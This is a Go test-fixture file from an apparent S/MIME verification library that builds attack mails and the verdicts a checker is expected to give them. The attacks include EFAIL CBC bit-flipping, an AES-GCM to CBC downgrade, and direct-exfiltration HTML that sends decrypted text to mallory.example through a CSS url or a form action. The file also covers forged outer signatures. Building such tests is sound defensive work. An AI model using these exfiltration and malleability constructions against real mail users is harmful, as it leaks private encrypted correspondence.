package policy

import (
	"bytes"
	"context"
	"encoding/base64"
	"io"
	"strings"

	"github.com/waxwing-mail/waxwing/alg"
	"github.com/waxwing-mail/waxwing/der"
	"github.com/waxwing-mail/waxwing/finding"
	"github.com/waxwing-mail/waxwing/smime"
)

// envelopes are more attacks on encryption, and honest layers in every order (EFAIL; RFC 8551 §3.7).
func (w *workshop) envelopes() {
	signed, opaque := w.clear(lunch, w.alice), w.opaque(lunch, w.alice)
	for _, c := range []struct {
		name, mail string
		expect     Word
		code       finding.Code
		note       string
	}{
		{"gadget", w.flipped(w.seal(opaque, false, w.bob), 40), Unreadable, "", "EFAIL: bits of the ciphertext are flipped, in the signed object's head"},
		{"gadget-unsigned", w.flipped(w.seal(lunch, false, w.bob), -2), Unsigned, finding.EncryptionNoIntegrity, "EFAIL: bits of an unsigned ciphertext are flipped, which nothing shows"},
		{"downgrade", w.downgraded(w.seal(lunch, true, w.bob)), Unreadable, "", "an AES-GCM ciphertext in the container of AES-CBC"},
		{"exfiltration-css", around("mixed", "Content-Type: text/html\r\n\r\n<style>body{background:url('http://mallory.example/?\r\n", entityOf(w.seal(lunch, true, w.bob)), "Content-Type: text/html\r\n\r\n')}</style>\r\n"), Untrusted, finding.EncryptionMixed, "the ciphertext inside of a style sheet"},
		{"exfiltration-form", around("mixed", "Content-Type: text/html\r\n\r\n<form action=\"http://mallory.example/\"><textarea name=t>\r\n", entityOf(w.seal(signed, true, w.bob)), "Content-Type: text/html\r\n\r\n</textarea></form>\r\n"), Untrusted, "", "signed and encrypted, inside of a form"},
		{"exfiltration-signed-by-mallory", w.clear(strings.Replace(around("mixed", payHTML, entityOf(w.seal(lunch, true, w.bob))), "Alice <alice@example.org>", "mallory@example.net", 1), w.mallory), Genuine, finding.EncryptionPart, "Mallory puts a ciphertext he found into his own signed mail, to have it quoted in the reply: it is his own mail, and the words say that only a part is encrypted"},
		{"attached-ciphertext-mail", w.clear(strings.Replace(around("mixed", entity, "Content-Type: message/rfc822\r\n\r\n"+w.seal(lunch, true, w.bob)), "Alice <alice@example.org>", "mallory@example.net", 1), w.mallory), Genuine, "", "the same as an attached mail, which is shown apart"},
		{"triple", w.clear(w.seal(signed, true, w.bob), w.alice), Genuine, "", "signed, encrypted and signed again (RFC 2634)"},
		{"triple-outer-mallory", w.clear(w.seal(signed, true, w.bob), w.mallory), Impostor, finding.FromMismatch, "Mallory signs Alice's signed and encrypted mail"},
		{"triple-outer-changed", w.clear(w.seal(strings.Replace(signed, "noon", "nine", 1), true, w.bob), w.alice), Altered, finding.SignatureDigest, "the inner signature is broken under a good outer one"},
		{"opaque-inside", w.seal(opaque, true, w.bob), Genuine, "", "an opaque signature inside"},
		{"encrypted-twice", w.seal(w.seal(signed, true, w.bob), true, w.bob), Genuine, "", "encrypted twice"},
		{"compressed", w.seal(w.compressed(signed), true, w.bob), Genuine, "", "signed, compressed and encrypted"},
		{"compressed-outside", w.compressed(opaque), Genuine, "", "a compressed signed mail"},
		{"signed-compressed", w.clear(w.compressed(lunch), w.alice), Genuine, "", "a compressed mail, signed"},
		{"other-inner-from", w.seal(strings.Replace(lunch, "alice@", "boss@", 1), true, w.bob), Unsigned, "", "encrypted by nobody in particular: who encrypts proves nothing"},
		{"signed-by-other-inside", w.seal(w.clear(lunch, w.mallory), true, w.bob), Impostor, finding.FromMismatch, "encryption does not make Mallory Alice"},
		{"two-readers", w.seal(signed, true, w.bob, w.alice), Genuine, "", "encrypted to two"},
		{"line-feeds", strings.ReplaceAll(w.seal(signed, true, w.bob), "\r\n", "\n"), Genuine, "", "stored with bare line feeds"},
	} {
		w.add("secret-"+c.name, c.expect, c.code, c.mail, c.note)
	}
	w.encodings(opaque)
}

// encodings are honest objects in unusual encodings.
func (w *workshop) encodings(opaque string) {
	object := w.object(entity, signing(w.alice).CMS)
	w.add("honest-ber", Genuine, "", p7m(w.indefinite(object), "signed-data"), "the outer elements have indefinite length")
	w.add("honest-base64-one-line", Genuine, "", header+"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n"+
		base64.StdEncoding.EncodeToString(object)+"\r\n", "base64 in one line")
	w.add("honest-binary", Genuine, "", header+"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\nContent-Transfer-Encoding: binary\r\n\r\n"+string(object), "the object as it is, in binary")
	w.add("honest-armored", Genuine, "", header+"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\n-----BEGIN PKCS7-----\r\n"+base64Lines(object)+"-----END PKCS7-----\r\n", "PEM in the place of base64")
	w.add("honest-text-behind-base64", Genuine, "", opaque+"\r\n-- \r\nour list adds text behind the base64\r\n", "text behind base64 that is no part of the object")
}

// indefinite writes the two outermost elements with indefinite length.
func (w *workshop) indefinite(object []byte) []byte {
	outer := der.NewCursor(object).Sequence()
	kind := outer.OID()
	inner, _ := outer.Explicit(0)
	signed := inner.Rest()
	b := der.AppendIndefinite(nil, der.Sequence)
	var id der.Builder
	id.OID(kind)
	raw, err := id.Bytes()
	w.must(err)
	b = der.AppendIndefinite(append(b, raw...), der.Context(0))
	return der.AppendEnd(der.AppendEnd(append(b, signed...)))
}

func (w *workshop) compressed(mail string) string {
	var b bytes.Buffer
	w.must(smime.Compress(context.Background(), &b, w.parse(mail)))
	return b.String()
}

// ciphertext decodes the body of an encrypted mail.
func (w *workshop) ciphertext(mail string) []byte {
	raw, err := io.ReadAll(w.parse(mail).Root.Decoded())
	w.must(err)
	return raw
}

// flipped flips bits of a CBC ciphertext: in the block with a number, from the end where it is negative. The next block
// changes in the same bits.
func (w *workshop) flipped(mail string, block int) string {
	raw := w.ciphertext(mail)
	at := len(raw) + 16*block
	if block >= 0 {
		at = len(raw) - 64
	}
	raw[at+3] ^= 0x20
	return p7m(raw, "enveloped-data")
}

// downgraded takes the ciphertext of an AuthEnvelopedData into an EnvelopedData.
func (w *workshop) downgraded(mail string) string {
	outer := der.NewCursor(w.ciphertext(mail)).Sequence()
	outer.OID()
	explicit, _ := outer.Explicit(0)
	auth := explicit.Sequence()
	auth.SmallInt()
	recipients := auth.Expect(der.Set)
	info := auth.Sequence()
	info.OID()
	info.Next()
	text := info.Next()
	var b der.Builder
	b.Sequence(func(b *der.Builder) {
		b.OID(alg.OIDEnvelopedData)
		b.Explicit(0, func(b *der.Builder) {
			b.Sequence(func(b *der.Builder) {
				b.Int(2)
				b.Raw(recipients.Raw)
				b.Sequence(func(b *der.Builder) {
					b.OID(alg.OIDData)
					b.Sequence(func(b *der.Builder) {
						b.OID(alg.OIDAES256CBC)
						b.OctetString(make([]byte, 16))
					})
					b.Implicit(der.Context(0), false, func(b *der.Builder) { b.AppendBytes(text.Body[:len(text.Body)/16*16]) })
				})
			})
		})
	})
	raw, err := b.Bytes()
	w.must(err)
	return p7m(raw, "enveloped-data")
}
